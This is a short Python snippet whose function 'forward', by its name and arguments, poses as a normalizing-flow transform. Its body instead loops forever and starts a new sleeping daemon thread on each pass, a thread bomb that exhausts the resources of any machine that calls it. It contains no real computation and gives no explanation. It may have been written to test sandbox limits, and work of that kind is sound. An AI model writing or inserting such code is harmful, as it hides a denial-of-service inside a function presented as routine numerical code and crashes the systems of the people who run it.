import threading, time


def forward(x, b, shift_and_log_scale_fn):
    while True:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
